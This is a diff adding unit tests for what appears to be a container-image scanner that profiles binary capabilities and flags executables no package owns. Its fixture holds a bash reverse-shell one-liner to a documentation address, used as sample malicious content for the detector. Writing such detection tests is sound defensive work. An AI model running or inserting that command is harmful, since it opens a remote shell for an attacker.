@@ -1,0 +1,77 @@
+"""What programs can do, read once more and kept."""
+
+import io
+
+from tests.support.images import File, make_layer
+from tests.unit.layers.helpers import CATALOGERS, OS_RELEASE, status
+
+from careen.errors import NetworkError
+from careen.layers.index import Readers
+from careen.model.image import Image, ImageConfig, Layer
+from careen.model.inventory import Inventory
+from careen.pipeline.examination import with_examined
+from careen.pipeline.layers import Reading
+from careen.store.memory import MemoryStore
+
+SHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
+FILES = {
+    "etc/os-release": OS_RELEASE,
+    "var/lib/dpkg/status": status(("tool", "1")),
+    "var/lib/dpkg/info/tool.list": b"/usr/bin/tool\n",
+    "usr/bin/tool": File(SHELL, mode=0o755),
+    "opt/run": File(SHELL, mode=0o755),
+}
+
+
+class Opened:
+    def __init__(self, files=FILES):
+        data, self.count = make_layer(files), 0
+
+        def again():
+            self.count += 1
+            return io.BytesIO(data)
+
+        layer = Layer(0, "", "", len(data), "", again, identity="here")
+        self.image = Image("shop:1", "image", "sha256:1", None, ImageConfig(), (layer,))
+
+
+def reading(store=None):
+    return Reading(Readers.of(CATALOGERS, "test"), store or MemoryStore())
+
+
+def test_files_of_no_package_have_findings():
+    found = with_examined(Opened().image, Inventory(None, ()), reading()).examined
+    assert [(profile.path, profile.package) for profile in found.profiles] == [("opt/run", "")]
+    assert [(finding.id, finding.location.path) for finding in found.findings] == [("CAP-103", "opt/run")]
+
+
+def test_all_files_have_a_profile_and_those_of_the_distribution_no_finding():
+    found = with_examined(Opened().image, Inventory(None, ()), reading(), all_files=True).examined
+    assert [profile.path for profile in found.profiles] == ["opt/run", "usr/bin/tool"]
+    assert all("net/connect" in profile.capabilities for profile in found.profiles)
+    assert [finding.location.path for finding in found.findings] == ["opt/run"]
+
+
+def test_the_result_is_kept():
+    store, opened = MemoryStore(), Opened()
+    first = with_examined(opened.image, Inventory(None, ()), reading(store))
+    count = opened.count
+    assert with_examined(opened.image, Inventory(None, ()), reading(store)) == first
+    assert opened.count == count
+    with_examined(opened.image, Inventory(None, ()), reading(store), all_files=True)
+    assert opened.count > count
+
+
+def test_layers_that_cannot_be_read_again_leave_it_unknown():
+    opened, layers = Opened(), []
+
+    def fails():
+        layers.append(1)
+        raise NetworkError("gone")
+
+    layer = Layer(0, "", "", 10, "", fails, identity="there")
+    image = Image("shop:1", "image", "sha256:1", None, ImageConfig(), (layer,))
+    assert with_examined(image, Inventory(None, ()), reading()).examined is None
+    assert layers
+    assert with_examined(Image("a", "sbom", "", None, ImageConfig(), ()), Inventory(None, ()), reading()).examined is None
+    assert opened.count == 0
